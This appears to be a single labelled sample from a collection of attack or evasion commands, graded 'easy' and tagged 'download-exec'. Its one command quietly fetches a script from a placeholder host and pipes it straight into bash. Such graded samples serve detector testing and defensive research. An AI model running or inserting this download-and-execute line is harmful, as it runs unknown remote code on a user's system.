# evasion: wget output into bash
# grade: easy; does: download-exec
wget -qO- https://x.example/i.sh | bash
